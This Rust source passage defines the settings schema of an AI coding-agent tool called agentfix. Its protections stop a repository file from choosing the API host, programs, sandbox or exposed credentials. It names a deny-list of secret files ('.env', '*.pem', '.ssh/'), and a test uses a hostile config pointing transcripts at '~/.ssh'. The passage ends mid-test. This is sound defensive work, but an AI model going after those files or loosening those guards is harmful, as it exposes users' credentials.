//! The wire settings, each declared once: `Settings`, what the editor
//! (camelCase JSON) and agentfix.toml give, every field optional.
//!
//! Each field of `Settings` is the one declaration of its setting: its name
//! (the field, camelCase), its type, its doc sentence (the doc comment, the
//! schema's `description`, whose first sentence VS Code's
//! `contributes.configuration` starts with), and in `#[schemars(extend(…))]`
//! its `default` (a value, or `x-defaultText` where no one value fits), the
//! environment variables that set it (`x-env`), and why agentfix.toml may
//! not (`x-notInFile`, or `x-notInFileKeys` for keys inside it); editor
//! settings may set every one. All of it lands in the JSON Schema (schemars,
//! committed as `agentfix.schema.json`), and is read back from there
//! ([`Settings::declarations`]) by `from_toml`'s refusals, and by the tests
//! that generate docs/configuration.md's table and check the schema, the
//! resolution (`config::layers`) and VS Code's package.json against it.
//!
//! Also here: reading JSON and TOML, merging, and the warnings about
//! misspelt keys (named with the closest setting by edit distance, a warning
//! and never an error: unknown keys stay accepted for forward compatibility;
//! in editor settings only keys close to a setting, and never the plugins'
//! own `EDITOR_KEYS`).

use std::path::{Path, PathBuf};
use std::sync::LazyLock;

use schemars::JsonSchema;
use serde::{Deserialize, Serialize};
use serde_json::Value;

use super::commands::CommandEntry;
use super::downstream::{
    DEFAULT_DIAGNOSTICS_SETTLE_MS, DEFAULT_DIAGNOSTICS_TIMEOUT_MS, DEFAULT_LANGUAGE_SERVER_TIMEOUT_MS, ServerConfig,
};
use super::limits::{
    ContextEditing, DEFAULT_CONTEXT_BUDGET, DEFAULT_MAX_OUTPUT_TOKENS, DEFAULT_MAX_TOKENS, DEFAULT_MAX_TURNS,
    DEFAULT_TIMEOUT_SECS, PartialEdits,
};
use super::mcp::McpServerSettings;
use super::provider::{
    DEFAULT_ANTHROPIC_BASE_URL, DEFAULT_CONNECT_TIMEOUT_SECS, DEFAULT_COUNT_TOKENS, DEFAULT_IDLE_TIMEOUT_SECS,
    DEFAULT_MAX_RETRIES, DEFAULT_MODEL, DEFAULT_OPENAI_BASE_URL, DEFAULT_OPENAI_MODEL, Effort, ProviderKind,
};
use super::{ConfigError, DEFAULT_PROJECT_INSTRUCTIONS, FILE_NAME};

/// agentfix settings, as the editor (camelCase JSON) or `agentfix.toml`
/// gives them. Every field is optional; unknown fields are ignored.
#[derive(Debug, Clone, Default, Serialize, Deserialize, PartialEq, JsonSchema)]
#[serde(rename_all = "camelCase", default)]
#[schemars(title = "agentfix settings")]
pub struct Settings {
    /// Model API: `anthropic`, `openai`, or `openai-compatible` (Ollama, llama.cpp, vLLM, LM Studio).
    #[serde(skip_serializing_if = "Option::is_none")]
    #[schemars(extend(
        "default" = ProviderKind::Anthropic,
        "x-env" = "AGENTFIX_PROVIDER",
        "x-notInFile" = "a repository must not choose where your API key is sent"
    ))]
    pub provider: Option<ProviderKind>,
    /// Model id.
    #[serde(skip_serializing_if = "Option::is_none")]
    #[schemars(extend(
        "x-defaultText" = format!("`{DEFAULT_MODEL}` (`{DEFAULT_OPENAI_MODEL}` for OpenAI)"),
        "x-env" = "AGENTFIX_MODEL"
    ))]
    pub model: Option<String>,
    /// How hard the model thinks before it answers: `low`, `medium` or `high`. Unset, no thinking is asked for. Anthropic: an extended thinking budget of 2048, 8192 or 24576 tokens on top of `maxOutputTokens`, for the models that have it (`claude-sonnet-4*`, `claude-opus-4*`, `claude-haiku-4-5`, `claude-3-7-sonnet`; ignored for others, with a warning). OpenAI: `reasoning_effort` for reasoning models (o1, o3, o4-mini, gpt-5*; ignored for others such as gpt-4.1 and gpt-4o, with a warning). OpenAI-compatible servers: sent as `reasoning_effort`, which a server that does not know it ignores. Thinking tokens are billed as output tokens.
    #[serde(skip_serializing_if = "Option::is_none")]
    #[schemars(extend("x-env" = "AGENTFIX_EFFORT"))]
    pub effort: Option<Effort>,
    /// API base URL. Anthropic: without `/v1`; OpenAI and compatible servers: with `/v1`. Required for openai-compatible.
    #[serde(skip_serializing_if = "Option::is_none")]
    #[schemars(extend(
        "x-defaultText" = format!("`{DEFAULT_ANTHROPIC_BASE_URL}` / `{DEFAULT_OPENAI_BASE_URL}`; required for `openai-compatible`"),
        "x-env" = ["ANTHROPIC_BASE_URL", "OPENAI_BASE_URL"],
        "x-notInFile" = "a repository must not choose where your API key is sent"
    ))]
    pub base_url: Option<String>,
    /// Model requests per run at most.
    #[serde(skip_serializing_if = "Option::is_none")]
    #[schemars(range(min = 1), extend("default" = DEFAULT_MAX_TURNS, "x-env" = "AGENTFIX_MAX_TURNS"))]
    pub max_turns: Option<u32>,
    /// Billed-equivalent tokens per run at most: input and output at 1, cache reads at 0.1, cache writes at 1.25. A hard bound: a request that could pass it is not sent, the last ones ask for no more output than is left, and the closing summary is skipped when it would not fit.
    #[serde(skip_serializing_if = "Option::is_none")]
    #[schemars(extend("default" = DEFAULT_MAX_TOKENS, "x-env" = "AGENTFIX_MAX_TOKENS"))]
    pub max_tokens: Option<u64>,
    /// `max_tokens` of each model request.
    #[serde(skip_serializing_if = "Option::is_none")]
    #[schemars(range(min = 1), extend("default" = DEFAULT_MAX_OUTPUT_TOKENS))]
    pub max_output_tokens: Option<u32>,
    /// Prompt tokens of one model request at most, estimated before it is sent. It is never above the known window of the model (Claude 200K, GPT-4o 128K, GPT-4.1 1M, GPT-5 400K, o3 and o4-mini 200K). Past about 80 % of it, the outputs of older tool calls are replaced by a one-line stub (see `contextEditing`), then older turns are summarised by the model; a request that would still not fit is not sent and the run stops with `context_budget`.
    #[serde(skip_serializing_if = "Option::is_none")]
    #[schemars(range(min = 1), extend("default" = DEFAULT_CONTEXT_BUDGET, "x-env" = "AGENTFIX_CONTEXT_BUDGET"))]
    pub context_budget: Option<u64>,
    /// When the outputs of older tool calls are replaced by a one-line stub. `economy`: as soon as carrying them has cost what rewriting the prompt cache costs, keeping the newest whole (up to three, within 8,000 tokens), and near `contextBudget`; `budget`: only near `contextBudget` (more context stays whole, for more tokens).
    #[serde(skip_serializing_if = "Option::is_none")]
    #[schemars(extend("default" = ContextEditing::Economy))]
    pub context_editing: Option<ContextEditing>,
    /// US dollars per run at most, at the model's price (see `prices`). A hard bound like `maxTokens`: a request that could pass it is not sent, and the run stops with `cost_budget`. Needs a known price for the model.
    #[serde(skip_serializing_if = "Option::is_none")]
    #[schemars(range(min = 0.0), extend("x-env" = "AGENTFIX_MAX_COST_USD"))]
    pub max_cost_usd: Option<f64>,
    /// Wall-clock limit of a run in seconds.
    #[serde(skip_serializing_if = "Option::is_none")]
    #[schemars(extend("default" = DEFAULT_TIMEOUT_SECS, "x-env" = "AGENTFIX_TIMEOUT_SECS"))]
    pub timeout_secs: Option<u64>,
    /// Retries of a failed model request.
    #[serde(skip_serializing_if = "Option::is_none")]
    #[schemars(extend("default" = DEFAULT_MAX_RETRIES, "x-env" = "AGENTFIX_MAX_RETRIES"))]
    pub max_retries: Option<u32>,
    /// Connection timeout of a model request in seconds.
    #[serde(skip_serializing_if = "Option::is_none")]
    #[schemars(extend("default" = DEFAULT_CONNECT_TIMEOUT_SECS))]
    pub connect_timeout_secs: Option<u64>,
    /// Longest silence of a streaming response in seconds before it counts as stalled. It is also the longest wait for the response headers; keep-alive pings count, bytes of an unfinished event do not, and an attempt over it is retried like a stall.
    #[serde(skip_serializing_if = "Option::is_none")]
    #[schemars(extend("default" = DEFAULT_IDLE_TIMEOUT_SECS))]
    pub idle_timeout_secs: Option<u64>,
    /// Anthropic only: count the prompt of each model request exactly with the API's free `count_tokens` endpoint. One extra request per model request past 40 % of `contextBudget`, nothing generated, makes the context budget exact instead of estimated.
    #[serde(skip_serializing_if = "Option::is_none")]
    #[schemars(extend("default" = DEFAULT_COUNT_TOKENS))]
    pub count_tokens: Option<bool>,
    /// Edits of a run that a limit stopped: `offer` them for review (labelled "stopped early") or `discard` them.
    #[serde(skip_serializing_if = "Option::is_none")]
    #[schemars(extend("default" = PartialEdits::Offer))]
    pub partial_edits: Option<PartialEdits>,
    /// Directory for run transcripts.
    #[serde(skip_serializing_if = "Option::is_none")]
    #[schemars(extend(
        "x-defaultText" = "the user cache directory, `agentfix/transcripts`",
        "x-env" = "AGENTFIX_TRANSCRIPT_DIR",
        "x-fileIgnored" = "a repository must not choose a folder of yours that agentfix writes in and restricts"
    ))]
    pub transcript_dir: Option<PathBuf>,
    /// Write a JSONL transcript of every run.
    #[serde(skip_serializing_if = "Option::is_none")]
    #[schemars(extend("default" = true, "x-env" = "AGENTFIX_TRANSCRIPTS"))]
    pub transcripts: Option<bool>,
    /// Language servers by language id (`python`, `rust`, `typescript`, `c`, `go`, …). For example `{"python": {"command": ["pyright-langserver", "--stdio"], "initializationOptions": {…}, "settings": {…}, "rootMarkers": ["pyproject.toml"]}}`; `"command": []` turns a language off. Unset languages use the defaults found on `PATH`.
    #[serde(skip_serializing_if = "Option::is_none")]
    #[schemars(extend(
        "x-env" = "AGENTFIX_LANGUAGE_SERVERS",
        "x-notInFile" = "a repository must not choose what programs agentfix runs"
    ))]
    pub language_servers: Option<std::collections::BTreeMap<String, ServerConfig>>,
    /// Commands the model may run with `run_command`, by name. For example `{"test": ["cargo", "test", "-q"], "lint": {"command": ["ruff", "check", "."], "timeoutSecs": 60}, "autoApprove": false}` (default timeout 300 s). They run in a scratch copy of the workspace with the run's edits applied; the user is asked before the first run of each (Allow once / Always in this workspace / Deny) unless `autoApprove` is true. On Linux they run in a sandbox (user, mount, PID, IPC, UTS and network namespaces, seccomp, Landlock): they see the system and their toolchains read-only, write only in the copy, a private temporary directory and the build cache, see no other file of yours, and reach no network; `"sandbox": "off"` turns the sandbox off (where the system cannot provide it, commands are refused until you do; `"landlock"` means the same as the default `"on"`), `"network": true` keeps the host's network, `"readPaths": ["/data/models"]` lets them read more directories (not `$HOME` itself, nor one inside the workspace), `"limits": {"addressSpaceMb": 16384, "processes": 4096, "fileSizeMb": 8192, "cpuSecs": 3600, "openFiles": 8192}` sets resource limits (0 leaves one as it is).
    #[serde(skip_serializing_if = "Option::is_none")]
    #[schemars(extend("x-notInFileKeys" = {
        "autoApprove": "a repository must not approve its own commands",
        "sandbox": "a repository must not loosen the sandbox of its own commands",
        "network": "a repository must not loosen the sandbox of its own commands",
        "readPaths": "a repository must not loosen the sandbox of its own commands",
        "limits": "a repository must not loosen the sandbox of its own commands"
    }))]
    pub commands: Option<std::collections::BTreeMap<String, CommandEntry>>,
    /// How agentfix checks a proposal before it offers it. For example `{"commands": ["test"], "rounds": 2, "diagnostics": true, "offerUnverified": true}`: the diagnostics of the changed files before and after (fixed, new, remaining; the target's problems first), then the named `commands` in the scratch copy with the proposal applied (approved as `run_command` is). What fails goes back to the model while rounds remain; the proposal is offered labelled `verified: …` or `not verified: …`.
    #[serde(skip_serializing_if = "Option::is_none")]
    #[schemars(extend("default" = serde_json::json!({})))]
    pub verify: Option<super::verify::VerifySettings>,
    /// Runs of the same task a fix makes, each in its own overlay and checked as `verify` says; the best is proposed (verified first, then fewer new errors, more problems fixed, the smaller diff, the cheaper run). The first starts alone and the others when its first answer has come, so they read the prompt cache it wrote; `maxTokens` and `maxCostUsd` bound their sum.
    #[serde(skip_serializing_if = "Option::is_none")]
    #[schemars(range(min = 1, max = 8), extend("default" = 1))]
    pub candidates: Option<u32>,
    /// When the other candidates stop: `all` (every candidate finishes) or `first-verified` (the others are cancelled when one verifies).
    #[serde(skip_serializing_if = "Option::is_none")]
    #[schemars(extend("default" = super::candidates::CandidatesStop::All))]
    pub candidates_stop: Option<super::candidates::CandidatesStop>,
    /// Where the candidates begin: `start` (each explores the task on its own) or `first-edit` (one exploration, forked into the candidates at the model's first edit, so the reading is paid once).
    #[serde(skip_serializing_if = "Option::is_none")]
    #[schemars(extend("default" = super::candidates::CandidatesFrom::Start))]
    pub candidates_from: Option<super::candidates::CandidatesFrom>,
    /// How the fix command answers the editor: `sync` (when the run and the review are over, with the result), `async` (at once with the run id, the outcome later as the `agentfix/runEnded` notification) or `auto` (async for clients known to time out long requests: Helix, and eglot 1.15 and later, which name themselves).
    #[serde(skip_serializing_if = "Option::is_none")]
    #[schemars(extend("default" = super::delivery::Delivery::Auto, "x-notInFile" = "how the editor takes a run's outcome is the editor's choice"))]
    pub delivery: Option<super::delivery::Delivery>,
    /// Start the default language servers found on `PATH` for languages not in `languageServers`.
    #[serde(skip_serializing_if = "Option::is_none")]
    #[schemars(extend("default" = true, "x-env" = "AGENTFIX_DEFAULT_LANGUAGE_SERVERS"))]
    pub default_language_servers: Option<bool>,
    /// Quiet time in milliseconds after a language server's last diagnostics before they count as settled.
    #[serde(skip_serializing_if = "Option::is_none")]
    #[schemars(extend("default" = DEFAULT_DIAGNOSTICS_SETTLE_MS))]
    pub diagnostics_settle_ms: Option<u64>,
    /// Longest wait in milliseconds for a language server's diagnostics after an edit.
    #[serde(skip_serializing_if = "Option::is_none")]
    #[schemars(extend("default" = DEFAULT_DIAGNOSTICS_TIMEOUT_MS))]
    pub diagnostics_timeout_ms: Option<u64>,
    /// Longest wait in milliseconds for a language server's answer to one query. A server that does not answer is restarted once.
    #[serde(skip_serializing_if = "Option::is_none")]
    #[schemars(extend("default" = DEFAULT_LANGUAGE_SERVER_TIMEOUT_MS, "x-env" = "AGENTFIX_LANGUAGE_SERVER_TIMEOUT_MS"))]
    pub language_server_timeout_ms: Option<u64>,
    /// More protected files, as gitignore-style patterns (`secrets/`, `*.sqlite`). They add to the built-in deny-list (`.env`, `*.pem`, `.ssh/`, …), which cannot be removed. The model can never read, list, search or edit a protected file. Every layer adds its patterns (agentfix.toml too); none removes one.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub exclude: Option<Vec<String>>,
    /// Environment variables that children get although agentfix would keep them back. Exact names or `*` patterns (`NPM_TOKEN`, `MY_*`). Commands and MCP servers get only a built-in list of variables that carry no secret (PATH, HOME, the locale, the toolchains') plus these; language servers get the environment without credential-shaped variables, unless named here. The provider keys never.
    #[serde(skip_serializing_if = "Option::is_none")]
    #[schemars(extend(
        "x-env" = "AGENTFIX_ENV_ALLOW",
        "x-notInFile" = "a repository must not choose which of your credentials its commands see"
    ))]
    pub env_allow: Option<Vec<String>>,
    /// List prices in US dollars per million tokens, by model id prefix (the longest match wins). For example `{"my-model": {"input": 1.0, "output": 4.0, "cacheRead": 0.1, "cacheWrite": 1.25}}` (cache prices default to 0.1 and 1.25 × input). Adds to or overrides the built-in prices; a model with no price shows tokens only.
    #[serde(skip_serializing_if = "Option::is_none")]
    #[schemars(extend(
        "x-defaultText" = "built-in list prices of current Anthropic and OpenAI models",
        "x-fileIgnored" = "a repository must not set the prices your maxCostUsd is counted at"
    ))]
    pub prices: Option<std::collections::BTreeMap<String, crate::pricing::Price>>,
    /// Put the repository's instructions for coding agents in the system prompt. They are `AGENTS.md` and `CLAUDE.md` at the workspace root and in every folder down to the file being fixed (nearest last), `.github/copilot-instructions.md`, and the `.cursor/rules` that apply to the file. At most 16 KB of each and 32 KB in all, read through the same confinement as the tools (protected files are never read). The model follows them unless they conflict with the user's request. agentfix.toml may set it too (the repository's own choice).
    #[serde(skip_serializing_if = "Option::is_none")]
    #[schemars(extend("default" = DEFAULT_PROJECT_INSTRUCTIONS, "x-env" = "AGENTFIX_PROJECT_INSTRUCTIONS"))]
    pub project_instructions: Option<bool>,
    /// The size of one tool result at most, in bytes, by tool name. For example `{"read_file": 20000, "run_command": 8000}`. A longer result is cut at a line break with a note telling the model how to ask for the rest. Lower limits keep long fixes cheaper.
    #[serde(skip_serializing_if = "Option::is_none")]
    #[schemars(extend("x-defaultText" = "102400 bytes for every tool"))]
    pub tool_output_limits: Option<std::collections::BTreeMap<String, usize>>,
    /// MCP tool servers, by name, in the shape other agents use. For example `{"github": {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-github"], "env": {"GITHUB_TOKEN": "…"}, "autoApprove": ["search_issues"], "timeoutSecs": 60}, "docs": {"url": "https://mcp.example.com/mcp", "headers": {"Authorization": "Bearer ${env:DOCS_TOKEN}"}}}`. A server runs over stdio (`command`) or is reached over streamable HTTP (`url`, with optional `headers`), never both; in the url and the header values `${env:NAME}` is replaced by the variable's value, which is never logged or shown (a variable not set leaves that server out, with why). Their tools are offered to the model as `mcp__<server>__<tool>`, and a server's resources as `mcp__<server>__list_resources` and `mcp__<server>__read_resource`; tools marked read-only (`readOnlyHint`) and the resource tools run without asking, the others ask first unless named in `autoApprove`. Servers start (or are connected to) at the first run that needs them; stdio servers get the environment without credentials plus their own `env`, and stop when agentfix exits.
    #[serde(skip_serializing_if = "Option::is_none")]
    #[schemars(extend(
        "x-env" = "AGENTFIX_MCP_SERVERS",
        "x-notInFile" = "a repository must not choose what programs agentfix runs or what tools the model gets"
    ))]
    pub mcp_servers: Option<std::collections::BTreeMap<String, McpServerSettings>>,
}

impl Settings {
    /// Reads settings from a JSON value; `{ "agentfix": {…} }` is unwrapped.
    /// A malformed value is an error that names the field.
    pub fn from_json(v: &Value) -> Result<Self, ConfigError> {
        if v.is_null() {
            return Ok(Self::default());
        }
        let v = v.get("agentfix").unwrap_or(v);
        if v.is_null() {
            return Ok(Self::default());
        }
        serde_json::from_value(v.clone()).map_err(|e| ConfigError::Invalid(format!("invalid agentfix settings: {e}")))
    }

    /// Reads `agentfix.toml` text, refusing what the declarations say it
    /// may not set (`x-notInFile`, `x-notInFileKeys`): `provider`,
    /// `baseUrl`, the programs agentfix runs, the credentials children see,
    /// the approval and sandbox of commands.
    pub fn from_toml(text: &str) -> Result<Self, ConfigError> {
        let s: Settings =
            toml::from_str(text).map_err(|e| ConfigError::Invalid(format!("invalid {FILE_NAME}: {e}")))?;
        let mut set = serde_json::to_value(&s).unwrap_or_default();
        // What a repository may not set against its user is left out (and
        // said by `file_warnings`).
        let ignored: Vec<String> =
            Self::declarations().into_iter().filter(|d| d.file_ignored().is_some()).map(|d| d.name).collect();
        let s = match set.as_object_mut() {
            Some(o) if ignored.iter().any(|n| o.contains_key(n)) => {
                ignored.iter().for_each(|n| _ = o.remove(n));
                serde_json::from_value(set.clone()).unwrap_or(s)
            }
            _ => s,
        };
        for d in Self::declarations() {
            let Some(value) = set.get(&d.name) else { continue };
            let elsewhere =
                if d.env().is_empty() { "in the editor settings" } else { "in the editor settings or the environment" };
            if let Some(why) = d.not_in_file() {
                return Err(ConfigError::Invalid(format!(
                    "{FILE_NAME} may not set `{}` ({why}); set it {elsewhere}",
                    d.name
                )));
            }
            if let Some((key, why)) = d.not_in_file_keys().into_iter().find(|(k, _)| value.get(k).is_some()) {
                return Err(ConfigError::Invalid(format!(
                    "{FILE_NAME} may not set `{}.{key}` ({why}); set it in the editor settings",
                    d.name
                )));
            }
        }
        Ok(s)
    }

    /// The keys that are settings (camelCase), from the schema.
    pub fn known_keys() -> Vec<String> {
        Self::declarations().into_iter().map(|d| d.name).collect()
    }

    /// Every setting's declaration, read back from the schema of its field.
    pub fn declarations() -> Vec<Declaration> {
        static SCHEMA: LazyLock<Value> = LazyLock::new(Settings::json_schema);
        let properties = SCHEMA["properties"].as_object().cloned().unwrap_or_default();
        properties
            .into_iter()
            .map(|(name, schema)| {
                // An enum is `anyOf: [{"$ref": …}, {"type": "null"}]`, its
                // values the `const`s of the definition's `oneOf`.
                let reference = schema["anyOf"][0]["$ref"].as_str().and_then(|r| r.strip_prefix("#/$defs/"));
                let values: Vec<Value> = reference
                    .and_then(|r| SCHEMA["$defs"][r]["oneOf"].as_array())
                    .map(|cases| cases.iter().map(|c| c["const"].clone()).collect())
                    .unwrap_or_default();
                let kind = match &schema["type"] {
                    Value::String(t) => t.clone(),
                    Value::Array(types) => {
                        types.iter().filter_map(Value::as_str).find(|t| *t != "null").unwrap_or_default().to_string()
                    }
                    _ if !values.is_empty() => "string".to_string(),
                    // A struct of its own (`verify`): its definition's type.
                    _ => reference.and_then(|r| SCHEMA["$defs"][r]["type"].as_str()).unwrap_or_default().to_string(),
                };
                Declaration { name, kind, values, schema }
            })
            .collect()
    }

    /// Warnings about the keys of `v` (an object; `{ "agentfix": {…} }` is
    /// unwrapped) that are not settings, each naming the key and the known
    /// one closest to it. Unknown keys stay accepted (editors keep their own
    /// keys in the same section, and newer settings must not break older
    /// servers), so this warns and never refuses. With `editor`, only keys
    /// close to a known one, and not one of [`EDITOR_KEYS`], are named: the
    /// others are the editor's own. Without it (agentfix.toml,
    /// which is agentfix's alone) every unknown key is.
    pub fn unknown_keys(v: &Value, editor: bool) -> Vec<String> {
        let v = v.get("agentfix").unwrap_or(v);
        let Some(map) = v.as_object() else { return Vec::new() };
        let known = Self::known_keys();
        let mut out = Vec::new();
        let editors_own = |k: &str| editor && EDITOR_KEYS.contains(&k);
        for key in map.keys().filter(|k| !known.contains(k) && !editors_own(k)) {
            match closest_key(key, &known) {
                Some(near) => out.push(format!("unknown key `{key}` (did you mean `{near}`?); it is ignored")),
                None if !editor => out.push(format!(
                    "unknown key `{key}` (no setting has a name like it: see `agentfix schema`); it is ignored"
                )),
                None => {}
            }
        }
        out
    }

    /// Warnings about `root`'s agentfix.toml: its unknown keys (see
    /// [`Settings::unknown_keys`]), each starting with the file's name.
    /// None when the file is missing or unreadable (loading it says why).
    pub fn file_warnings(root: &Path) -> Vec<String> {
        let Ok(text) = std::fs::read_to_string(root.join(FILE_NAME)) else { return Vec::new() };
        let Ok(table) = toml::from_str::<toml::Table>(&text) else { return Vec::new() };
        let value = serde_json::to_value(table).unwrap_or_default();
        let mut out: Vec<String> =
            Self::unknown_keys(&value, false).into_iter().map(|w| format!("{FILE_NAME}: {w}")).collect();
        for d in Self::declarations() {
            if let Some(why) = d.file_ignored().filter(|_| value.get(&d.name).is_some()) {
                out.push(format!("{FILE_NAME}: `{}` is ignored ({why}); set it in the editor settings", d.name));
            }
        }
        for name in FILE_MAY_ONLY_LOWER.iter().filter(|n| value.get(**n).is_some()) {
            out.push(format!(
                "{FILE_NAME}: `{name}` may only lower the value the other settings or the default give (a repository may tighten a budget, never raise it)"
            ));
        }
        out
    }

    /// `agentfix.toml` in `root`, if present.
    pub fn load_file(root: &Path) -> Result<Option<Self>, ConfigError> {
        let path = root.join(FILE_NAME);
        match std::fs::read_to_string(&path) {
            Ok(text) => Self::from_toml(&text).map(Some),
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(None),
            Err(e) => Err(ConfigError::Invalid(format!("cannot read {}: {e}", path.display()))),
        }
    }

    /// `other` wins where it has a value.
    pub fn merged(&self, other: &Settings) -> Settings {
        let mut base = serde_json::to_value(self).unwrap_or_default();
        if let (Some(b), Value::Object(o)) = (base.as_object_mut(), serde_json::to_value(other).unwrap_or_default()) {
            for (k, v) in o {
                if !v.is_null() {
                    b.insert(k, v);
                }
            }
        }
        serde_json::from_value(base).unwrap_or_default()
    }

    /// The JSON Schema of the settings (committed as `agentfix.schema.json`).
    pub fn json_schema() -> Value {
        serde_json::to_value(schemars::schema_for!(Settings)).unwrap_or_default()
    }
}

/// One setting as its `Settings` field declares it: the property of the
/// JSON Schema, with agentfix's own keywords (`x-env`, `x-defaultText`,
/// `x-notInFile`, `x-notInFileKeys`).
#[derive(Debug, Clone, PartialEq)]
pub struct Declaration {
    /// The setting's name, camelCase.
    pub name: String,
    /// Its JSON type without `null`: `string` (an enum's too), `integer`,
    /// `number`, `boolean`, `object` or `array`.
    pub kind: String,
    /// An enum's values, in order; empty for other types.
    pub values: Vec<Value>,
    /// Its schema property: type, `description`, `default`, and the `x-` keywords.
    pub schema: Value,
}

impl Declaration {
    /// The doc comment of the field.
    pub fn description(&self) -> &str {
        self.schema["description"].as_str().unwrap_or_default()
    }

    /// Its first sentence: up to the first `. ` outside backticks.
    pub fn sentence(&self) -> &str {
        let text = self.description();
        let mut code = false;
        for (i, c) in text.char_indices() {
            match c {
                '`' => code = !code,
                '.' if !code && text[i + 1..].starts_with(' ') => return &text[..=i],
                _ => {}
            }
        }
        text
    }

    /// The default value in force when no layer sets it, where it is one value.
    pub fn default(&self) -> Option<&Value> {
        self.schema.get("default")
    }

    /// What the default is, in words, where it is not one value.
    pub fn default_text(&self) -> Option<&str> {
        self.schema.get("x-defaultText").and_then(Value::as_str)
    }

    /// The environment variables that set it (one per provider for `baseUrl`).
    pub fn env(&self) -> Vec<&str> {
        match self.schema.get("x-env") {
            Some(Value::String(var)) => vec![var.as_str()],
            Some(Value::Array(vars)) => vars.iter().filter_map(Value::as_str).collect(),
            _ => Vec::new(),
        }
    }

    /// Why agentfix.toml's value of it is ignored, if it is.
    pub fn file_ignored(&self) -> Option<&str> {
        self.schema.get("x-fileIgnored").and_then(Value::as_str)
    }

    /// Why agentfix.toml may not set it, if it may not.
    pub fn not_in_file(&self) -> Option<&str> {
        self.schema.get("x-notInFile").and_then(Value::as_str)
    }

    /// The keys inside it that agentfix.toml may not set, each with why.
    pub fn not_in_file_keys(&self) -> Vec<(&str, &str)> {
        let keys = self.schema.get("x-notInFileKeys").and_then(Value::as_object);
        keys.into_iter().flatten().map(|(k, why)| (k.as_str(), why.as_str().unwrap_or_default())).collect()
    }
}

/// The budgets agentfix.toml may only lower (`config::layers::pick_lowest`).
pub const FILE_MAY_ONLY_LOWER: [&str; 3] = ["maxTokens", "maxTurns", "maxCostUsd"];

/// Keys the editor plugins here keep in the `agentfix` section for
/// themselves (VS Code's `agentfix.serverPath`, `agentfix.models`,
/// `agentfix.review`, `agentfix.trace.server`): never warned about in
/// editor settings.
pub(super) const EDITOR_KEYS: &[&str] = &["serverPath", "models", "review", "askRejectReason", "trace"];

/// The known key a misspelt `key` most likely meant: the same letters but
/// for case, `_` and `-` (`max_turns`), a prefix of one (`timeout` for
/// `timeoutSecs`), or within a few edits (`maxTurn`, `contextEdting`).
fn closest_key<'a>(key: &str, known: &'a [String]) -> Option<&'a str> {
    let plain = |s: &str| s.chars().filter(|c| *c != '_' && *c != '-').collect::<String>().to_lowercase();
    let wanted = plain(key);
    if wanted.is_empty() {
        return None;
    }
    let limit = (wanted.chars().count() / 4).max(2);
    known
        .iter()
        .map(|k| {
            let candidate = plain(k);
            let edits = edit_distance(&wanted, &candidate);
            // A prefix counts as one edit; among equals, the fewest real edits.
            let prefix = candidate.starts_with(&wanted) && wanted.len() >= 4;
            (if prefix { edits.min(1) } else { edits }, edits, k)
        })
        .filter(|(d, _, _)| *d <= limit)
        .min_by_key(|(d, edits, _)| (*d, *edits))
        .map(|(_, _, k)| k.as_str())
}

/// Levenshtein distance in characters.
fn edit_distance(a: &str, b: &str) -> usize {
    let b: Vec<char> = b.chars().collect();
    let mut row: Vec<usize> = (0..=b.len()).collect();
    for (i, ca) in a.chars().enumerate() {
        let mut diagonal = row[0];
        row[0] = i + 1;
        for (j, cb) in b.iter().enumerate() {
            let above = row[j + 1];
            row[j + 1] = (above + 1).min(row[j] + 1).min(diagonal + usize::from(ca != *cb));
            diagonal = above;
        }
    }
    row[b.len()]
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn misspelt_keys_are_named_with_the_closest_setting_and_still_accepted() {
        let file = json!({"maxTurn": 5, "max_tokens": 9, "timeout": 3, "transcript": false, "zzz": 1, "model": "m"});
        let warnings = Settings::unknown_keys(&file, false);
        assert_eq!(
            warnings,
            vec![
                "unknown key `maxTurn` (did you mean `maxTurns`?); it is ignored",
                "unknown key `max_tokens` (did you mean `maxTokens`?); it is ignored",
                "unknown key `timeout` (did you mean `timeoutSecs`?); it is ignored",
                "unknown key `transcript` (did you mean `transcripts`?); it is ignored",
                "unknown key `zzz` (no setting has a name like it: see `agentfix schema`); it is ignored",
            ]
        );
        // From an editor, keys like no setting are the editor's own.
        let editor =
            json!({"agentfix": {"serverPath": "/bin/agentfix", "models": [], "trace": {}, "partialEdit": "offer"}});
        assert_eq!(
            Settings::unknown_keys(&editor, true),
            vec!["unknown key `partialEdit` (did you mean `partialEdits`?); it is ignored"]
        );
        // Still accepted: a warning, not an error.
        assert_eq!(Settings::from_json(&editor).unwrap(), Settings::default());
        assert_eq!(Settings::from_toml("maxTurn = 5\nmaxTurns = 6\n").unwrap().max_turns, Some(6));
        assert!(Settings::unknown_keys(&json!({"maxTurns": 1, "commands": {}}), false).is_empty());
    }

    #[test]
    fn agentfix_toml_warnings_name_the_file() {
        let dir = tempfile::tempdir().unwrap();
        assert!(Settings::file_warnings(dir.path()).is_empty());
        std::fs::write(dir.path().join(FILE_NAME), "maxTurn = 5\n").unwrap();
        assert_eq!(
            Settings::file_warnings(dir.path()),
            vec!["agentfix.toml: unknown key `maxTurn` (did you mean `maxTurns`?); it is ignored"]
        );
    }

    #[test]
    fn the_project_file_may_not_set_prices_or_the_transcript_folder_nor_raise_a_budget() {
        let dir = tempfile::tempdir().unwrap();
        let text = "model = \"claude-haiku-4-5\"\ntranscriptDir = \"/home/you/.ssh\"\nmaxTokens = 5000000\n\n[prices.claude]\ninput = 0.0\noutput = 0.0\n";
        std::fs::write(dir.path().join(FILE_NAME), text).unwrap();
        let file = Settings::load_file(dir.path()).unwrap().unwrap();
        assert_eq!((file.prices.as_ref(), file.transcript_dir.as_ref()), (None, None), "left out");
        assert_eq!(file.model.as_deref(), Some("claude-haiku-4-5"), "the rest is read");
        let warnings = Settings::file_warnings(dir.path()).join("\n");
        assert!(warnings.contains("agentfix.toml: `prices` is ignored (a repository must not set the prices your maxCostUsd is counted at)"), "{warnings}");
        assert!(warnings.contains("agentfix.toml: `transcriptDir` is ignored"), "{warnings}");
        assert!(warnings.contains("agentfix.toml: `maxTokens` may only lower the value"), "{warnings}");
        // A budget it raises stays the default; one it lowers is taken.
        let c = crate::config::Config::resolve(&file, &Settings::default(), &|_| None).unwrap();
        assert_eq!(
            (c.limits.max_tokens, c.source("maxTokens")),
            (crate::config::limits::DEFAULT_MAX_TOKENS, super::super::Source::Default)
        );
        let lower = Settings::from_toml("maxTokens = 1000\nmaxTurns = 3\n").unwrap();
